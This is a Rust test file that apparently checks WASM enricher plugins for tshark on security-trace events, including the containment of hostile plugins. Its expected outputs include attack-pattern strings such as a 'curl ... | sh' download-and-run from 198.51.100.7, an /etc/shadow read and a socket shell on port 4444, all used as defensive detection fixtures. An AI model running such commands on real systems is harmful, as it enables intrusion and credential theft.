//! WASM enrichers inside tshark: declared fields are registered and filterable, Info text is
//! replaced, and a hostile plugin leaves tshark running with every other field intact.

use trackershark_tests::{rows, samples_dir, stderr, stdout, Home};

#[test]
fn enricher_fields_filter_and_a_hostile_plugin_is_contained() {
    let home = Home::new();
    home.add_sample("events.json");
    let dir = home.dir.join("enrichers");
    std::fs::create_dir_all(&dir).unwrap();
    for f in ["rules.toml", "file_type.wat", "endless.wat"] {
        std::fs::copy(samples_dir().join("enrichers").join(f), dir.join(f)).unwrap();
    }
    let enrichers = home.visible(&dir);
    let env = [("TRACKERSHARK_ENRICHERS", enrichers.as_str())];
    let out = home.run_with_env(
        "tshark",
        &[
            "-r",
            "events.json",
            "-T",
            "fields",
            "-E",
            "separator=/t",
            "-e",
            "frame.number",
            "-e",
            "tracker.event_name",
            "-e",
            "tracker.enrich.file_type",
            "-e",
            "_ws.col.Info",
            "-e",
            "_ws.expert.message",
        ],
        &env,
    );
    assert!(out.status.success(), "{}", stderr(&out));
    let got = rows(&String::from_utf8_lossy(&out.stdout));
    assert_eq!(got.len(), 11);
    let enriched: Vec<&str> = got.iter().filter(|r| r[2] == "ELF executable").map(|r| r[0].as_str()).collect();
    assert_eq!(enriched, ["1", "5", "11"], "{got:?}");
    assert_eq!(got[0][3], "enriched by file_type.wat");
    // the endless plugin ran out of fuel on frame 6: the event is intact, with an expert note
    assert_eq!(got[5][1], "security_bpf_prog");
    assert!(got[5][3].starts_with("security_bpf_prog: type=1"), "{:?}", got[5]);
    assert!(got[5][4].contains("enricher endless: the call ran out of fuel"), "{:?}", got[5]);

    // the declared field is registered up front, so display filters work on it
    let out = home.run_with_env(
        "tshark",
        &[
            "-r",
            "events.json",
            "-Y",
            r#"tracker.enrich.file_type == "ELF executable""#,
            "-T",
            "fields",
            "-e",
            "frame.number",
        ],
        &env,
    );
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(String::from_utf8_lossy(&out.stdout), "1\n5\n11\n");
    let out = home.run_with_env("tshark", &["-r", "events.json", "-O", "tracker", "-c", "1"], &env);
    assert!(
        String::from_utf8_lossy(&out.stdout).contains("    [File type]: ELF executable\n"),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
}

/// Copies a directory of plugins into the home, as the tools' user sees it.
fn add_dir(home: &Home, src: &std::path::Path, name: &str) -> String {
    let dir = home.dir.join(name);
    for e in std::fs::read_dir(src).unwrap() {
        let p = e.unwrap().path();
        if p.is_file() {
            home.add_into(&p, &dir);
        }
    }
    home.visible(&dir)
}

fn tshark_fields(home: &Home, file: &str, fields: &[&str], env: &[(&str, &str)]) -> Vec<Vec<String>> {
    let mut args = vec!["-r", file, "-T", "fields", "-E", "separator=/t", "-E", "occurrence=a", "-E", "aggregator=|"];
    for f in fields {
        args.extend(["-e", f]);
    }
    let out = home.run_with_env("tshark", &args, env);
    assert!(out.status.success(), "{}", stderr(&out));
    rows(&String::from_utf8_lossy(&out.stdout))
}

#[test]
fn default_enrichers_give_readable_info_and_filterable_fields() {
    let home = Home::with_default_enrichers();
    home.add_sample("enrich.json");
    let got = tshark_fields(&home, "enrich.json", &["frame.number", "_ws.col.Info"], &[]);
    let info: Vec<String> = got.iter().map(|r| format!("{} {}", r[0], r[1])).collect();
    assert_eq!(
        info,
        [
            "1 exec /usr/bin/curl: curl -s http://198.51.100.7/x.sh -o '/tmp/x y.sh'",
            "2 nginx: bind fd 6 to 0.0.0.0:8080",
            "3 curl: connect fd 5 (SOCK_STREAM) to [2001:db8::7]:443",
            "4 sshd: accept on fd 3 at 10.0.0.5:22",
            "5 DNS query: A evil.example.com (10.0.0.5:46259 → 10.0.0.2:53)",
            "6 DNS response: A evil.example.com => A 198.51.100.7 (10.0.0.2:53 → 10.0.0.5:46259)",
            "7 HTTP request GET http://198.51.100.7/x.sh HTTP/1.1 (10.0.0.5:50064 → 198.51.100.7:80)",
            "8 HTTP response HTTP/1.1 200 OK, text/x-sh, 180 bytes (198.51.100.7:80 → 10.0.0.5:50064)",
            "9 cat: open /etc/shadow (read-only; O_RDONLY|O_LARGEFILE)",
            "10 magic_write /tmp/x y.sh: Shell script, interpreter /bin/sh (magic bytes)",
            "11 magic_write /usr/local/bin/kworker: ELF 64-bit executable, x86-64 (magic bytes)",
            "12 gdb: ptrace PTRACE_ATTACH on pid 37",
            "13 TRC-105 Fileless Execution [high] — T1620 Reflective Code Loading: memfd:payload",
            "14 TRC-101 Process standard input/output over socket detected [high] — T1059.004 Unix Shell: fd 0, 198.51.100.7, port 4444",
            "15 TRC-104 Dynamic code loading detected [medium] — T1027.002 Software Packing",
            // no enricher for getpid: the engine's own Info
            "16 getpid",
            "17 exec /bin/dash: sh -c id (stdin: pipe pipe:[77012])",
        ]
    );

    let fields = [
        "tracker.enrich.proc_exec_path",
        "tracker.enrich.net_local_addr",
        "tracker.enrich.net_remote_addr",
        "tracker.enrich.net_dns_query",
        "tracker.enrich.net_dns_answer",
        "tracker.enrich.net_http_url",
        "tracker.enrich.net_http_status",
        "tracker.enrich.file_open_flags",
        "tracker.enrich.magic_write_data",
        "tracker.enrich.magic_write_file_type",
        "tracker.enrich.ptrace_request",
        "tracker.enrich.proc_fileless_source",
        "tracker.enrich.net_stdio_stream",
        "tracker.enrich.proc_mem_alert",
        "tracker.enrich.sig_signature",
        "tracker.enrich.sig_severity",
        "tracker.enrich.sig_mitre",
    ];
    let got = tshark_fields(&home, "enrich.json", &fields, &[]);
    let present: Vec<Vec<(usize, &str)>> = got
        .iter()
        .map(|r| r.iter().enumerate().filter(|(_, v)| !v.is_empty()).map(|(i, v)| (i, v.as_str())).collect())
        .collect();
    assert_eq!(present[0], [(0, "/usr/bin/curl")]);
    assert_eq!(present[1], [(1, "0.0.0.0:8080")]);
    assert_eq!(present[2], [(2, "[2001:db8::7]:443")]);
    assert_eq!(present[4], [(3, "evil.example.com")]);
    assert_eq!(present[5], [(3, "evil.example.com"), (4, "198.51.100.7")]);
    assert_eq!(present[6], [(5, "http://198.51.100.7/x.sh")]);
    assert_eq!(present[7], [(6, "200")]);
    assert_eq!(present[8], [(7, "O_RDONLY|O_LARGEFILE")]);
    // Wireshark 4.4 and later escape backslashes in -T fields output; 4.0 does not
    assert_eq!(present[9][0].0, 8);
    assert_eq!(present[9][0].1.replace(r"\\", r"\"), r"#!/bin/sh\ncurl -s http://198.51.100.7/m | sh\n");
    assert_eq!(present[9][1], (9, "Shell script, interpreter /bin/sh (magic bytes)"));
    assert_eq!(present[10][1], (9, "ELF 64-bit executable, x86-64 (magic bytes)"));
    assert_eq!(present[11], [(10, "PTRACE_ATTACH")]);
    assert_eq!(
        present[12],
        [
            (11, "memfd:payload"),
            (14, "TRC-105 Fileless Execution"),
            (15, "3 (high)"),
            (16, "T1620 Reflective Code Loading (tactic: defense-evasion)")
        ]
    );
    assert_eq!(present[13][0], (2, "198.51.100.7:4444"));
    assert_eq!(present[13][1], (12, "stdin"));
    assert_eq!(present[14][0], (13, "Protection changed from W to E!"));
    assert_eq!(present[15], []);

    // generated fields filter like any other
    let filter = |f: &str| {
        let out = home.run("tshark", &["-r", "enrich.json", "-Y", f, "-T", "fields", "-e", "frame.number"]);
        assert!(out.status.success(), "{f}: {}", stderr(&out));
        String::from_utf8_lossy(&out.stdout).split_whitespace().map(str::to_string).collect::<Vec<_>>()
    };
    assert_eq!(filter(r#"tracker.enrich.magic_write_file_type contains "ELF""#), ["11"]);
    assert_eq!(filter(r#"tracker.enrich.sig_severity == "3 (high)""#), ["13", "14"]);
    assert_eq!(filter(r#"tracker.enrich.ptrace_request == "PTRACE_ATTACH""#), ["12"]);
    assert_eq!(filter("tracker.enrich.net_dns_query"), ["5", "6"]);

    // and show in the tree as [Name]: value
    let out = home.run("tshark", &["-r", "enrich.json", "-O", "tracker", "-Y", "frame.number == 12"]);
    let tree = String::from_utf8_lossy(&out.stdout);
    assert!(tree.contains("    [Request Name]: PTRACE_ATTACH\n"), "{tree}");
}

/// Every field of every event as tshark shows it in PDML, without what enrichers add.
fn pdml_fields(home: &Home, env: &[(&str, &str)]) -> Vec<String> {
    let out = home.run_with_env("tshark", &["-r", "events.json", "-T", "pdml"], env);
    assert!(out.status.success(), "{}", stderr(&out));
    let text = String::from_utf8_lossy(&out.stdout);
    text.lines()
        .map(str::trim)
        .filter(|l| l.starts_with("<field name=\"tracker."))
        .filter(|l| !l.starts_with("<field name=\"tracker.enrich") && !l.starts_with("<field name=\"tracker.plugin_"))
        .map(str::to_string)
        .collect()
}

#[test]
fn hostile_plugins_leave_tshark_running_and_every_field_intact() {
    let home = Home::new();
    home.add_sample("events.json");
    let dir = add_dir(&home, &samples_dir().join("enrichers/hostile"), "hostile");
    let env = [("TRACKERSHARK_ENRICHERS", dir.as_str())];

    let got = tshark_fields(
        &home,
        "events.json",
        &["frame.number", "tracker.event_name", "tracker.enrich.file_type", "_ws.expert.message"],
        &env,
    );
    assert_eq!(got.len(), 11, "{got:?}");
    let load =
        "enricher rules: plugin wrong_abi: the module speaks ABI version 2; this host speaks version 1 (not running); \
                plugin no_enrich: the module does not export `enrich` (not running)";
    for (i, row) in got.iter().enumerate() {
        // (frame 11 also has the engine's own note on an unsupported argument type)
        let experts: Vec<&str> = row[3].split('|').filter(|e| e.starts_with("enricher")).collect();
        assert_eq!(experts[0], load, "frame {}", i + 1);
        // the well-behaved plugin still runs
        let expected_type = if ["1", "5", "11"].contains(&row[0].as_str()) { "ELF executable" } else { "" };
        assert_eq!(row[2], expected_type, "frame {}", i + 1);
        if i < 5 {
            // each fault stays on its call: the next event gets a fresh instance
            assert_eq!(experts.len(), 5, "frame {}: {experts:?}", i + 1);
            assert_eq!(experts[1], "enricher loop: the call ran out of fuel (instruction budget 10000000)");
            assert_eq!(experts[2], "enricher memory_bomb: the call exceeded a bound: memory beyond the 16 MiB cap");
            assert!(experts[3].starts_with("enricher trap: the call trapped: "), "{experts:?}");
            assert!(experts[3].contains("unreachable"), "{experts:?}");
            assert_eq!(experts[4], "enricher huge_output: the call exceeded a bound: more than 65536 bytes of output");
        } else {
            // after 5 faults in a row, a plugin is disabled with the reason
            assert_eq!(experts.len(), 5, "frame {}: {experts:?}", i + 1);
            assert!(
                experts[1]
                    .starts_with("enricher loop: disabled after 5 faults in a row (last: the call ran out of fuel"),
                "{experts:?}"
            );
            assert!(experts[4].starts_with("enricher huge_output: disabled after 5 faults in a row"), "{experts:?}");
        }
    }
    // every field of every event is what it is without any enricher
    let plain = pdml_fields(&home, &[]);
    assert!(plain.len() > 300, "{} fields", plain.len());
    assert_eq!(pdml_fields(&home, &env), plain);
}

#[test]
fn example_plugins_in_c_zig_and_wat_are_built_from_source_and_change_tshark_output() {
    let home = Home::new();
    home.add_sample("enrich.json");
    // build into the home, as the tools' user will read it
    let out_dir = home.dir.join("examples");
    let build = std::process::Command::new("bash")
        .arg(trackershark_tests::repo_root().join("enrichers-wasm/examples/build.sh"))
        .arg(&out_dir)
        .output()
        .unwrap();
    assert!(build.status.success(), "build.sh: {}{}", stdout(&build), stderr(&build));
    for f in ["c_sensitive_path.wasm", "zig_container_shell.wasm", "uid_zero.wat", "rules.toml"] {
        assert!(out_dir.join(f).is_file(), "{f} not built");
    }
    let dir = add_dir(&home, &out_dir, "examples-installed");
    let env = [("TRACKERSHARK_ENRICHERS", dir.as_str())];
    let got = tshark_fields(
        &home,
        "enrich.json",
        &[
            "frame.number",
            "tracker.enrich.c_sensitive_path",
            "tracker.enrich.zig_container_shell",
            "tracker.enrich.wat_root",
            "_ws.col.Info",
        ],
        &env,
    );
    // C: the /etc/shadow open (frame 9)
    assert_eq!(got[8][1], "/etc/shadow");
    assert_eq!(got[8][4], "sensitive file /etc/shadow touched by cat (security_file_open)");
    // Zig: the shell started in container "web" (frame 17)
    assert_eq!(got[16][2], "/bin/dash in web");
    assert_eq!(got[16][4], "shell /bin/dash started in container web: sh -c id");
    assert_eq!(got.iter().filter(|r| !r[2].is_empty()).count(), 1);
    // WAT: every event of uid 0
    assert_eq!(got.iter().filter(|r| r[3] == "yes").count(), 16, "{got:?}");
    assert_eq!(got[1][3], "", "nginx runs as uid 101");
    // without the examples, none of it
    let plain = tshark_fields(&home, "enrich.json", &["frame.number", "_ws.col.Info"], &[]);
    assert!(plain[8][1].starts_with("security_file_open: pathname=\"/etc/shadow\""), "{:?}", plain[8]);
}

/// Runs `tshark -2` on events.json with the WAT enricher rules, and the fixture that copies
/// `edits` (file in the home → file in the rules directory) when the second pass starts; returns
/// the second pass's frames as (event name, [File type], expert messages).
fn two_passes_with_edits(home: &Home, edits: &[(&str, &str)]) -> Vec<Vec<String>> {
    let dir = home.dir.join("reload");
    for f in ["file_type.wat", "edit_between_passes.lua"] {
        home.add_into(&samples_dir().join("enrichers").join(f), &dir);
    }
    home.write(
        "reload/rules.toml",
        b"[[plugin]]\nname = \"file_type\"\nwasm = \"file_type.wat\"\nevents = [\"openat\"]\n",
    );
    let list: Vec<String> = edits
        .iter()
        .map(|(from, to)| format!("{}={}", home.visible(&home.dir.join(from)), home.visible(&dir.join(to))))
        .collect();
    let (rules_dir, script, list) =
        (home.visible(&dir), home.visible(&dir.join("edit_between_passes.lua")), list.join(";"));
    let lua_script = format!("lua_script:{script}");
    let env = [("TRACKERSHARK_ENRICHERS", rules_dir.as_str()), ("TRACKERSHARK_TEST_EDITS", list.as_str())];
    let out = home.run_with_env(
        "tshark",
        &[
            "-2",
            "-r",
            "events.json",
            "-X",
            &lua_script,
            "-T",
            "fields",
            "-E",
            "separator=/t",
            "-e",
            "tracker.event_name",
            "-e",
            "tracker.enrich.file_type",
            "-e",
            "_ws.expert.message",
        ],
        &env,
    );
    assert!(out.status.success(), "{}", stderr(&out));
    rows(&String::from_utf8_lossy(&out.stdout))
}

#[test]
fn rules_and_plugins_changed_between_two_passes_of_one_tshark_take_effect() {
    let home = Home::new();
    home.add_sample("events.json");
    // the plugin now reports another file type, and the rules add an event
    let wat = std::fs::read_to_string(samples_dir().join("enrichers/file_type.wat")).unwrap();
    home.write("new.wat", wat.replace("ELF executable", "shell script!!").as_bytes());
    home.write(
        "new-rules.toml",
        b"[[plugin]]\nname = \"file_type\"\nwasm = \"file_type.wat\"\nevents = [\"openat\", \"security_bpf_prog\"]\n",
    );
    let got = two_passes_with_edits(&home, &[("new.wat", "file_type.wat"), ("new-rules.toml", "rules.toml")]);
    let typed: Vec<(usize, &str, &str)> = got
        .iter()
        .enumerate()
        .filter(|(_, r)| !r[1].is_empty())
        .map(|(i, r)| (i + 1, r[0].as_str(), r[1].as_str()))
        .collect();
    assert_eq!(
        typed,
        [
            // dissected before the edit
            (1, "openat", "ELF executable"),
            (5, "openat", "shell script!!"),
            (6, "security_bpf_prog", "shell script!!"),
            (11, "openat", "shell script!!"),
        ]
    );
    assert!(got.iter().all(|r| !r[2].contains("enricher")), "{got:?}");
}

#[test]
fn a_broken_rules_file_between_two_passes_keeps_the_old_rules_and_says_why() {
    let home = Home::new();
    home.add_sample("events.json");
    home.write("broken.toml", b"[[plugin]]\nname = \"file_type\"\nwasm = ");
    let got = two_passes_with_edits(&home, &[("broken.toml", "rules.toml")]);
    let typed: Vec<usize> =
        got.iter().enumerate().filter(|(_, r)| r[1] == "ELF executable").map(|(i, _)| i + 1).collect();
    assert_eq!(typed, [1, 5, 11], "the old rules still run");
    assert!(!got[0][2].contains("enricher"), "{:?}", got[0]);
    for (i, row) in got.iter().enumerate().skip(1) {
        assert!(
            row[2].contains("enricher rules: ")
                && row[2].contains("rules.toml")
                && row[2].contains("(the previous rules still apply)"),
            "frame {}: {:?}",
            i + 1,
            row
        );
    }
}
